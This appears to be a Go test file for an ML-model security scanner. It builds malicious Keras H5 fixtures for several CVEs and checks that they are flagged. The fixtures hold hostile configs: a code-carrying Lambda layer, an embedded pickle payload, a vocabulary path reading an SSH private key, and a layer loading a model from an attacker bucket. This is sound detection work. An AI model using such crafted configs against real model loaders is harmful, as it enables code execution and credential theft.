package kerash5_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/base64"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/violet-mlsecops/violet/analyzer"
	"github.com/violet-mlsecops/violet/analyzer/pickle"
	"github.com/violet-mlsecops/violet/finding"
	"github.com/violet-mlsecops/violet/scan"
)

// update rewrites testdata/advisories:
//
//	go test ./analyzer/kerash5 -run TestAdvisories -update
var update = flag.Bool("update", false, "rewrite the advisory fixtures")

var repoRoot = filepath.Join("..", "..")

// dense.h5 (h5py, Keras 2 layout) holds model_config as a fixed-length
// string of configSize bytes at configOffset: the fixtures overwrite it
// with a shorter config padded with spaces, which Keras' json.loads
// accepts and the HDF5 library returns as is.
const (
	configOffset = 2136
	configSize   = 1103
)

// h5Layer is a Keras 2 layer config (no module: tf.keras resolves the
// class name).
func h5Layer(class, name, config string) string {
	return `{"class_name": "` + class + `", "config": {"name": "` + name + `", "trainable": true, ` + config + `}}`
}

func h5Sequential(layers ...string) string {
	return `{"class_name": "Sequential", "config": {"name": "sequential", "layers": [` + strings.Join(layers, ", ") + `]}}`
}

// h5Configs are the model_config of each H5 advisory fixture, by file
// name; analyzer/keras/testdata/advisories.tsv lists them.
var h5Configs = map[string]func(t testing.TB) string{
	"cve-2025-9905-h5-lambda.h5": func(t testing.TB) string {
		b, err := os.ReadFile(filepath.Join(repoRoot, "internal", "pymarshal", "testdata", "os_system.b64"))
		if err != nil {
			t.Fatal(err)
		}
		code := strings.Join(strings.Fields(string(b)), "")
		return h5Sequential(h5Layer("Lambda", "lambda", `"function": ["`+code+`", null, null], "function_type": "lambda", "module": "__main__", "output_shape": null, "arguments": {}`))
	},
	"cve-2025-49655-torch-module-wrapper.h5": func(t testing.TB) string {
		b, err := os.ReadFile(filepath.Join(repoRoot, "testdata", "models", "malicious", "pickle", "system_p0.pkl"))
		if err != nil {
			t.Fatal(err)
		}
		return h5Sequential(h5Layer("TorchModuleWrapper", "torch_module_wrapper", `"module": "`+base64.StdEncoding.EncodeToString(b)+`", "output_shape": null`))
	},
	"cve-2025-12058-stringlookup-vocabulary.h5": func(testing.TB) string {
		return h5Sequential(h5Layer("StringLookup", "string_lookup", `"vocabulary": "/home/user/.ssh/id_rsa", "num_oov_indices": 1, "output_mode": "int"`))
	},
	"cve-2026-1462-tfsmlayer.h5": func(testing.TB) string {
		return h5Sequential(h5Layer("TFSMLayer", "tfsm_layer", `"filepath": "gs://attacker-bucket/saved_model", "call_endpoint": "serving_default"`))
	},
}

// h5Fixture is dense.h5 with its model_config replaced by config.
func h5Fixture(t testing.TB, config string) []byte {
	data := read(t, filepath.Join(formats, "benign", "keras-h5", "dense.h5"))
	if !bytes.HasPrefix(data[configOffset:], []byte(`{"class_name": "Sequential"`)) {
		t.Fatal("dense.h5 changed: model_config is not where the fixtures expect it")
	}
	if len(config) > configSize {
		t.Fatalf("config of %d bytes does not fit in %d", len(config), configSize)
	}
	out := bytes.Clone(data)
	copy(out[configOffset:], config+strings.Repeat(" ", configSize-len(config)))
	return out
}

// TestAdvisories checks each H5 row of analyzer/keras/testdata/advisories.tsv:
// the fixture is what h5Configs builds, and Violet reports its rules at
// high or critical.
func TestAdvisories(t *testing.T) {
	f, err := os.Open(filepath.Join(repoRoot, "analyzer", "keras", "testdata", "advisories.tsv"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	opts := scan.Options{Analyzers: scan.Analyzers(pickle.DefaultPolicy()), Limits: analyzer.DefaultLimits()}
	rows := 0
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		cols := strings.Split(sc.Text(), "\t")
		if len(cols) != 6 || !strings.HasPrefix(cols[4], "analyzer/kerash5/") {
			continue
		}
		rows++
		id, fixture, want := cols[0], cols[4], strings.Split(cols[5], ",")
		t.Run(id, func(t *testing.T) {
			build, ok := h5Configs[filepath.Base(fixture)]
			if !ok {
				t.Fatalf("no config for %s", fixture)
			}
			path := filepath.Join(repoRoot, filepath.FromSlash(fixture))
			data := h5Fixture(t, build(t))
			if *update {
				if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, data, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			if got, err := os.ReadFile(path); err != nil || !bytes.Equal(got, data) {
				t.Fatalf("%s is stale (run with -update): %v", fixture, err)
			}
			r, err := scan.Scan(context.Background(), []string{path}, opts)
			if err != nil {
				t.Fatal(err)
			}
			got := map[string]finding.Severity{}
			for _, x := range r.AllFindings() {
				got[x.Rule] = max(got[x.Rule], x.Severity)
			}
			for _, rule := range want {
				if sev, ok := got[rule]; !ok || sev < finding.High {
					t.Errorf("rule %s: severity %v, found %v; findings %+v", rule, sev, ok, r.AllFindings())
				}
			}
		})
	}
	if rows != len(h5Configs) {
		t.Errorf("%d H5 rows in advisories.tsv, %d configs", rows, len(h5Configs))
	}
}
